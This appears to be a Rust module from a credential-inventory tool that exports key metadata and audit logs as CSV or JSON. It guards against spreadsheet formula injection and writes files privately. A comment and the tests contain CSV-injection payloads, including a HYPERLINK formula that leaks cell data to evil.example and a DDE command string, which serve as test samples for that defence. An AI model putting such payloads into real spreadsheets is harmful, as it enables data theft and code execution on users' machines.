//! Files a person takes away: the inventory's metadata as CSV or JSON, and the audit log as CSV.
//! Only metadata, ever: a `KeyRow` or an `AuditEntry` cannot hold a secret (see `secret.rs`), and
//! these are the only things written.

use std::borrow::Cow;
use std::path::{Path, PathBuf};

use chrono::{DateTime, SecondsFormat, Utc};
use serde::{Deserialize, Serialize};
use ts_rs::TS;

use crate::error::{Error, ErrorCode, Result};
use crate::model::catalog::AuditAction;
use crate::model::{KeyQuery, KeyRow};
use crate::store::{AuditEntry, AuditQuery};
use crate::{paths, Keyward};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS)]
#[serde(rename_all = "snake_case")]
#[ts(export)]
pub enum ExportFormat {
    Csv,
    Json,
}

impl ExportFormat {
    pub fn as_str(self) -> &'static str {
        match self {
            ExportFormat::Csv => "csv",
            ExportFormat::Json => "json",
        }
    }

    pub fn parse(s: &str) -> Option<ExportFormat> {
        [ExportFormat::Csv, ExportFormat::Json].into_iter().find(|f| f.as_str() == s)
    }
}

/// The file an export of `format` goes to: `path`, with `.csv` or `.json` added when its name
/// does not end so. A save dialog that adds no extension still gives a file that opens, and a
/// name typed by mistake cannot replace a file that is not an export (`~/.bashrc` becomes
/// `~/.bashrc.csv`). (The window's page names no path at all: the shell opens the dialog.)
pub fn export_path(path: &Path, format: ExportFormat) -> PathBuf {
    let ext = format.as_str();
    // A folder or a path with no name is left for `write_export` to refuse, not written beside.
    if path.extension().is_some_and(|e| e.eq_ignore_ascii_case(ext)) || path.file_name().is_none() || path.is_dir() {
        return path.to_path_buf();
    }
    let mut name = path.as_os_str().to_os_string();
    name.push(".");
    name.push(ext);
    PathBuf::from(name)
}

/// What an export wrote, for the window's toast and the CLI's line on stderr.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, TS)]
#[ts(export)]
pub struct ExportReport {
    pub path: String,
    /// Keys or audit entries written.
    pub rows: u32,
}

/// The inventory's CSV columns, in order.
pub const KEY_COLUMNS: [&str; 24] = [
    "id",
    "account",
    "service",
    "kind",
    "name",
    "preview",
    "owner",
    "created_at",
    "expires_at",
    "status",
    "is_test",
    "usage_count",
    "usage_limit",
    "spend",
    "spend_limit",
    "rate_limit",
    "last_used_at",
    "rotate_due",
    // A Barndoor gateway key's: its kind of credential, scopes (space-separated), the user id
    // or IdP group it acts for, and where its secret stands.
    "gateway_class",
    "scopes",
    "acts_for",
    "disabled_at",
    "rotated_at",
    "previous_secret_works_until",
];

/// The audit log's CSV columns, in order. `account` is empty once the account was removed.
pub const AUDIT_COLUMNS: [&str; 7] = ["at", "account_id", "account", "action", "target", "outcome", "detail"];

/// A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return,
/// which some strip first) as a formula, so a key named `=HYPERLINK("https://evil.example/?"&A1)`
/// would run when the export is opened ("CSV injection"). Text that came from a service or a
/// person gets a leading `'`, which spreadsheets read as "this is text" (OWASP's advice). Numbers
/// and times, which Keyward formats itself, are left alone: `-1` is a number, not a formula.
fn text(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

fn opt_text(value: Option<&str>) -> Cow<'_, str> {
    value.map(text).unwrap_or(Cow::Borrowed(""))
}

fn time(value: Option<DateTime<Utc>>) -> String {
    value.map(|t| t.to_rfc3339_opts(SecondsFormat::AutoSi, true)).unwrap_or_default()
}

fn number<T: ToString>(value: Option<T>) -> String {
    value.map(|v| v.to_string()).unwrap_or_default()
}

fn csv_error(e: impl std::fmt::Display) -> Error {
    Error::new(ErrorCode::Internal, format!("Could not write the CSV: {e}"))
}

fn to_csv<const N: usize>(header: [&str; N], rows: impl Iterator<Item = [String; N]>) -> Result<String> {
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(header).map_err(csv_error)?;
    for row in rows {
        out.write_record(&row).map_err(csv_error)?;
    }
    let bytes = out.into_inner().map_err(csv_error)?;
    String::from_utf8(bytes).map_err(csv_error)
}

/// One row per key with the columns of [`KEY_COLUMNS`]; kinds, services and statuses as their
/// stable ids (as in `keyward keys list --json`), times in RFC 3339 UTC, absent values empty.
pub fn keys_csv(rows: &[KeyRow]) -> Result<String> {
    to_csv(
        KEY_COLUMNS,
        rows.iter().map(|k| {
            let l = &k.limits;
            let g = k.gateway.as_ref();
            [
                k.id.clone(),
                text(&k.account_label).into_owned(),
                k.service.as_str().into(),
                k.kind.as_str().into(),
                text(&k.name).into_owned(),
                opt_text(k.preview.as_deref()).into_owned(),
                opt_text(k.owner.as_deref()).into_owned(),
                time(k.created_at),
                time(k.expires_at),
                k.status.as_str().into(),
                number(l.is_test),
                number(l.usage_count),
                number(l.usage_limit),
                number(l.spend),
                number(l.spend_limit),
                number(l.rate_limit),
                time(l.last_used_at),
                number(Some(k.rotate_due)),
                opt_text(g.and_then(|g| g.class.as_deref())).into_owned(),
                text(&g.map(|g| g.scopes.join(" ")).unwrap_or_default()).into_owned(),
                opt_text(g.and_then(|g| g.group_name.as_deref().or(g.user_id.as_deref()))).into_owned(),
                time(g.and_then(|g| g.disabled_at)),
                time(g.and_then(|g| g.rotated_at)),
                time(g.and_then(|g| g.previous_key_expires_at)),
            ]
        }),
    )
}

/// The rows as `keyward keys list --json` prints them: an array of `KeyRow` objects.
pub fn keys_json(rows: &[KeyRow]) -> Result<String> {
    let mut json = serde_json::to_string_pretty(rows).map_err(|e| Error::new(ErrorCode::Internal, format!("Could not write the JSON: {e}")))?;
    json.push('\n');
    Ok(json)
}

pub fn keys(rows: &[KeyRow], format: ExportFormat) -> Result<String> {
    match format {
        ExportFormat::Csv => keys_csv(rows),
        ExportFormat::Json => keys_json(rows),
    }
}

/// One row per entry with the columns of [`AUDIT_COLUMNS`].
pub fn audit_csv(entries: &[AuditEntry]) -> Result<String> {
    to_csv(
        AUDIT_COLUMNS,
        entries.iter().map(|e| {
            [
                time(Some(e.at)),
                e.account_id.clone().unwrap_or_default(),
                opt_text(e.account_label.as_deref()).into_owned(),
                e.action.clone(),
                text(&e.target).into_owned(),
                e.outcome.clone(),
                opt_text(e.detail.as_deref()).into_owned(),
            ]
        }),
    )
}

fn count(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// Writes an export readable by its owner only (0600 on unix), whole or not at all (a temporary
/// file beside it, then a rename). The folder must exist: Keyward does not create folders the
/// person did not choose.
pub fn write_export(path: &Path, contents: &str) -> Result<()> {
    if path.as_os_str().is_empty() {
        return Err(Error::invalid("path", "Choose a file to export to."));
    }
    let shown = |p: &Path| crate::model::rules::clip(&p.display().to_string());
    if path.is_dir() {
        return Err(Error::invalid("path", format!("'{}' is a folder; choose a file name inside it.", shown(path))));
    }
    let dir = paths::parent_dir(path);
    if !dir.is_dir() {
        return Err(Error::invalid("path", format!("The folder '{}' does not exist; choose one that does.", shown(dir))));
    }
    paths::write_private(path, contents.as_bytes())
        .map_err(|e| Error::new(ErrorCode::Storage, format!("Could not write the export to '{}': {e}", shown(path))))
}

impl Keyward {
    /// The keys `query` lists (as the inventory shows them), as CSV or JSON.
    pub fn export_keys(&self, query: &KeyQuery, format: ExportFormat) -> Result<String> {
        keys(&self.list_keys(query)?, format)
    }

    /// [`Keyward::export_keys`] into a file named as [`export_path`] says, recorded in the audit log.
    pub fn export_keys_to(&self, query: &KeyQuery, format: ExportFormat, path: &Path) -> Result<ExportReport> {
        let rows = self.list_keys(query)?;
        let path = export_path(path, format);
        write_export(&path, &keys(&rows, format)?)?;
        let detail = format!("{} as {}", count(rows.len(), "key", "keys"), format.as_str().to_uppercase());
        self.recorded_export(AuditAction::InventoryExport, &path, rows.len(), &detail)
    }

    /// The audit entries `query` lists, as CSV, into a file (and the export itself is recorded).
    pub fn export_audit_to(&self, query: &AuditQuery, path: &Path) -> Result<ExportReport> {
        let entries = self.audit(query)?;
        let path = export_path(path, ExportFormat::Csv);
        write_export(&path, &audit_csv(&entries)?)?;
        self.recorded_export(AuditAction::AuditExport, &path, entries.len(), &format!("{} as CSV", count(entries.len(), "entry", "entries")))
    }

    /// Only a written file is recorded: a refused path wrote nothing.
    fn recorded_export(&self, action: AuditAction, path: &Path, rows: usize, detail: &str) -> Result<ExportReport> {
        self.record(None, action, &path.display().to_string(), None, Some(detail));
        Ok(ExportReport { path: path.display().to_string(), rows: rows as u32 })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::{KeyKind, KeyLimits, KeyStatus, Service};

    fn at(text: &str) -> DateTime<Utc> {
        DateTime::parse_from_rfc3339(text).unwrap().with_timezone(&Utc)
    }

    /// Names a CSV writer must quote, and one a spreadsheet would run.
    const AWKWARD: [&str; 6] = ["plain", "with, comma", "with \"quotes\"", "two\nlines", "ünïcødé 鍵 🔑", "=HYPERLINK(\"https://evil.example\")"];

    fn row(i: usize, name: &str) -> KeyRow {
        KeyRow {
            id: format!("id-{i}"),
            account_id: "acc".into(),
            account_label: "Prod, EU".into(),
            service: Service::Respan,
            kind: KeyKind::RespanTempKey,
            provider_id: format!("p{i}"),
            name: name.into(),
            preview: Some(format!("sk-…{i:04}")),
            owner: i.is_multiple_of(2).then(|| "@ana".to_string()),
            created_at: Some(at("2026-11-24T09:30:00.123456Z")),
            expires_at: (i == 1).then(|| at("2026-12-31T00:00:00Z")),
            status: KeyStatus::Active,
            last_seen_at: at("2026-11-25T00:00:00Z"),
            limits: KeyLimits {
                is_test: Some(i % 2 == 1),
                usage_count: Some(i as i64 * 3),
                usage_limit: Some(-1),
                spend: Some(12.5),
                spend_limit: None,
                rate_limit: Some(30),
                last_used_at: None,
            },
            rotate_due: i == 2,
            run: None,
            gateway: None,
        }
    }

    fn rows() -> Vec<KeyRow> {
        AWKWARD.iter().enumerate().map(|(i, n)| row(i, n)).collect()
    }

    fn read(csv_text: &str) -> (Vec<String>, Vec<Vec<String>>) {
        let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
        let header = reader.headers().unwrap().iter().map(str::to_string).collect();
        let records = reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect();
        (header, records)
    }

    /// What a spreadsheet shows for a text cell: the guard's quote is Keyward's, the rest is the value.
    fn unguarded(cell: &str) -> &str {
        cell.strip_prefix('\'').filter(|rest| rest.starts_with(['=', '+', '-', '@'])).unwrap_or(cell)
    }

    #[test]
    fn the_keys_csv_reads_back_as_the_same_values() {
        let rows = rows();
        let (header, records) = read(&keys_csv(&rows).unwrap());
        assert_eq!(header, KEY_COLUMNS);
        assert_eq!(records.len(), rows.len());
        for (k, r) in rows.iter().zip(&records) {
            let cell = |name: &str| r[KEY_COLUMNS.iter().position(|c| *c == name).unwrap()].as_str();
            assert_eq!(cell("id"), k.id);
            let name = if k.name.starts_with('=') { format!("'{}", k.name) } else { k.name.clone() };
            assert_eq!(cell("name"), name, "commas, quotes, newlines and unicode survive; only the formula is guarded");
            assert_eq!(cell("account"), "Prod, EU");
            assert_eq!((cell("service"), cell("kind"), cell("status")), ("respan", "respan_temp_key", "active"));
            assert_eq!(cell("preview"), k.preview.as_deref().unwrap());
            assert_eq!(unguarded(cell("owner")), k.owner.as_deref().unwrap_or(""));
            assert_eq!(cell("created_at").parse::<DateTime<Utc>>().unwrap(), k.created_at.unwrap(), "sub-second precision kept");
            assert_eq!(cell("expires_at").parse::<DateTime<Utc>>().ok(), k.expires_at);
            assert_eq!(cell("is_test").parse::<bool>().unwrap(), k.limits.is_test.unwrap());
            assert_eq!(cell("usage_count").parse::<i64>().unwrap(), k.limits.usage_count.unwrap());
            assert_eq!(cell("usage_limit"), "-1", "a number is never guarded");
            assert_eq!(cell("spend").parse::<f64>().unwrap(), 12.5);
            assert_eq!((cell("spend_limit"), cell("last_used_at")), ("", ""), "absent values are empty");
            assert_eq!(cell("rate_limit"), "30");
            assert_eq!(cell("rotate_due").parse::<bool>().unwrap(), k.rotate_due);
        }
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_kept_as_text() {
        let mut k = row(0, "=1+1");
        k.owner = Some("+cmd|' /C calc'!A0".into());
        k.preview = Some("-2+3".into());
        k.account_label = "@SUM(A1)".into();
        let (_, records) = read(&keys_csv(&[k]).unwrap());
        let r = &records[0];
        assert_eq!((r[4].as_str(), r[6].as_str(), r[5].as_str(), r[1].as_str()), ("'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)"));
        assert_eq!(text("\tx"), "'\tx");
        assert_eq!(text("a=b"), "a=b", "only a leading character matters");
        let (_, records) = read(&keys_csv(&rows()).unwrap());
        assert_eq!(records[5][4], format!("'{}", AWKWARD[5]));
    }

    #[test]
    fn the_keys_json_is_the_rows_as_the_cli_lists_them() {
        let rows = rows();
        let json = keys_json(&rows).unwrap();
        let back: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert_eq!(back, serde_json::to_value(&rows).unwrap());
        let names: Vec<&str> = back.as_array().unwrap().iter().map(|r| r["name"].as_str().unwrap()).collect();
        assert_eq!(names, AWKWARD, "JSON needs no guard: nothing opens it as a formula");
        assert!(json.contains("\n  {"), "pretty, for a person reading it");
        assert_eq!(keys(&[], ExportFormat::Json).unwrap(), "[]\n");
        assert_eq!(read(&keys(&[], ExportFormat::Csv).unwrap()), (KEY_COLUMNS.map(String::from).to_vec(), vec![]));
    }

    #[test]
    fn the_audit_csv_reads_back_as_the_same_values() {
        let entries: Vec<AuditEntry> = AWKWARD
            .iter()
            .enumerate()
            .map(|(i, target)| AuditEntry {
                at: at("2026-11-24T09:30:00Z") + chrono::Duration::milliseconds(i as i64 * 1500),
                account_id: (i != 2).then(|| "acc".to_string()),
                account_label: (i % 2 == 0).then(|| "Prod \"EU\"".to_string()),
                action: "key.create".into(),
                target: target.to_string(),
                outcome: if i == 3 { "forbidden".into() } else { "ok".into() },
                detail: (i == 1).then(|| "API key, line one\nline two".to_string()),
            })
            .collect();
        let (header, records) = read(&audit_csv(&entries).unwrap());
        assert_eq!(header, AUDIT_COLUMNS);
        for (e, r) in entries.iter().zip(&records) {
            assert_eq!(r[0].parse::<DateTime<Utc>>().unwrap(), e.at);
            assert_eq!(r[1], e.account_id.clone().unwrap_or_default());
            assert_eq!(r[2], e.account_label.clone().unwrap_or_default());
            assert_eq!((r[3].as_str(), r[5].as_str()), ("key.create", e.outcome.as_str()));
            assert_eq!(unguarded(&r[4]), e.target);
            assert_eq!(r[6], e.detail.clone().unwrap_or_default());
        }
        assert!(records[5][4].starts_with("'="), "a target a spreadsheet would run is guarded");
    }

    #[test]
    fn formats_read_as_their_names() {
        assert_eq!(serde_json::from_str::<ExportFormat>("\"csv\"").unwrap(), ExportFormat::Csv);
        assert_eq!(ExportFormat::parse("json"), Some(ExportFormat::Json));
        assert_eq!(ExportFormat::parse("xlsx"), None);
        assert!(serde_json::from_str::<ExportFormat>("\"xlsx\"").is_err());
    }

    #[test]
    fn an_export_file_always_ends_in_its_format() {
        let named = |p: &str, f| export_path(Path::new(p), f).display().to_string();
        assert_eq!(named("/home/ana/keys.csv", ExportFormat::Csv), "/home/ana/keys.csv");
        assert_eq!(named("/home/ana/KEYS.JSON", ExportFormat::Json), "/home/ana/KEYS.JSON");
        assert_eq!(named("/home/ana/keys", ExportFormat::Csv), "/home/ana/keys.csv", "a dialog that added no extension");
        assert_eq!(named("/home/ana/.bashrc", ExportFormat::Csv), "/home/ana/.bashrc.csv", "never a file that is not an export");
        assert_eq!(named("/home/ana/config.json", ExportFormat::Csv), "/home/ana/config.json.csv");
        assert_eq!(named("out.v2", ExportFormat::Json), "out.v2.json");
        assert_eq!(named("", ExportFormat::Csv), "", "no name: left for write_export to refuse");
        let dir = tempfile::tempdir().unwrap();
        assert_eq!(export_path(dir.path(), ExportFormat::Csv), dir.path(), "a folder is not written beside");
    }

    #[cfg(unix)]
    fn mode(p: &Path) -> u32 {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(p).unwrap().permissions().mode() & 0o777
    }

    #[test]
    fn an_export_is_written_private_and_replaces_an_older_one() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("keys.csv");
        std::fs::write(&path, "an older export, longer than the new one").unwrap();
        write_export(&path, "id\n").unwrap();
        assert_eq!(std::fs::read_to_string(&path).unwrap(), "id\n");
        #[cfg(unix)]
        assert_eq!(mode(&path), 0o600);
    }

    #[test]
    fn a_path_that_cannot_be_an_export_is_refused_by_field() {
        let dir = tempfile::tempdir().unwrap();
        let refused = |p: &Path| {
            let e = write_export(p, "x").unwrap_err();
            assert_eq!((e.code, e.field.as_deref()), (ErrorCode::InvalidInput, Some("path")), "{p:?}: {e:?}");
            e.message
        };
        let missing = dir.path().join("no-such-folder").join("keys.csv");
        assert!(refused(&missing).contains("does not exist"));
        assert!(!missing.parent().unwrap().exists(), "no folder is created");
        assert!(refused(dir.path()).contains("is a folder"));
        assert!(refused(Path::new("")).contains("Choose a file"));
        assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 0, "nothing was written");
    }

    #[cfg(target_os = "linux")]
    #[test]
    fn a_write_the_system_refuses_is_a_storage_error_naming_the_file() {
        // /proc takes no new files, even from root (these tests may run as root, where file
        // modes refuse nothing).
        let e = write_export(Path::new("/proc/keyward-export.csv"), "x").unwrap_err();
        assert_eq!(e.code, ErrorCode::Storage, "{e:?}");
        assert!(e.message.contains("/proc/keyward-export.csv"), "{}", e.message);
    }

    fn core_with_keys(dir: &Path) -> Keyward {
        let core = Keyward::open(dir, std::sync::Arc::new(crate::vault::MemoryVault::default()), crate::HttpConfig::default()).unwrap();
        let account = crate::model::Account {
            id: "acc".into(),
            service: Service::Braintrust,
            label: "Prod".into(),
            host: "https://api.braintrust.dev".into(),
            org_name: None,
            identity: None,
            created_at: Utc::now(),
            last_synced_at: None,
            last_sync_error: None,
            key_count: 0,
        };
        core.store().insert_account(&account).unwrap();
        let listed: Vec<crate::store::RemoteKey> = ["alpha", "=beta"]
            .iter()
            .enumerate()
            .map(|(i, name)| crate::store::RemoteKey {
                kind: KeyKind::BraintrustApiKey,
                provider_id: format!("p{i}"),
                name: name.to_string(),
                preview: Some("sk-****".into()),
                owner: None,
                created_at: Some(Utc::now()),
                expires_at: None,
                limits: KeyLimits::default(),
                details: serde_json::json!({}),
            })
            .collect();
        core.store().apply_sync("acc", &[KeyKind::BraintrustApiKey], &listed, Utc::now()).unwrap();
        core
    }

    #[test]
    fn an_export_to_a_file_holds_what_the_query_lists_and_is_recorded() {
        let dir = tempfile::tempdir().unwrap();
        let core = core_with_keys(&dir.path().join("data"));
        let path = dir.path().join("keys.json");
        let query = KeyQuery { search: Some("alpha".into()), ..Default::default() };
        let report = core.export_keys_to(&query, ExportFormat::Json, &path).unwrap();
        assert_eq!(report, ExportReport { path: path.display().to_string(), rows: 1 });
        let back: Vec<serde_json::Value> = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        assert_eq!(back.iter().map(|r| r["name"].as_str().unwrap()).collect::<Vec<_>>(), ["alpha"]);
        assert_eq!(core.export_keys(&KeyQuery::default(), ExportFormat::Csv).unwrap().lines().count(), 3);

        let audit = dir.path().join("audit");
        let report = core.export_audit_to(&AuditQuery::default(), &audit).unwrap();
        let audit = dir.path().join("audit.csv");
        assert_eq!(report.path, audit.display().to_string(), "the report names the file written");
        let (_, records) = read(&std::fs::read_to_string(&audit).unwrap());
        assert_eq!(report.rows as usize, records.len());
        assert_eq!(records[0][3], "inventory.export", "the earlier export is in the log");
        let log = core.audit_log(1).unwrap();
        assert_eq!((log[0].action.as_str(), log[0].detail.as_deref()), ("audit.export", Some("1 entry as CSV")));
    }

    #[test]
    fn a_refused_export_writes_and_records_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let core = core_with_keys(&dir.path().join("data"));
        let e = core.export_keys_to(&KeyQuery::default(), ExportFormat::Csv, &dir.path().join("nope").join("k.csv")).unwrap_err();
        assert_eq!(e.field.as_deref(), Some("path"));
        let e = core.export_audit_to(&AuditQuery::default(), &dir.path().join("data")).unwrap_err();
        assert!(e.message.contains("is a folder"), "{}", e.message);
        assert!(!dir.path().join("data.csv").exists(), "nothing written beside the folder");
        let e = core.export_audit_to(&AuditQuery { since: Some("soon".into()), ..Default::default() }, &dir.path().join("a.csv")).unwrap_err();
        assert_eq!(e.field.as_deref(), Some("since"));
        assert!(!dir.path().join("a.csv").exists());
        assert!(core.audit_log(10).unwrap().is_empty());
    }
}
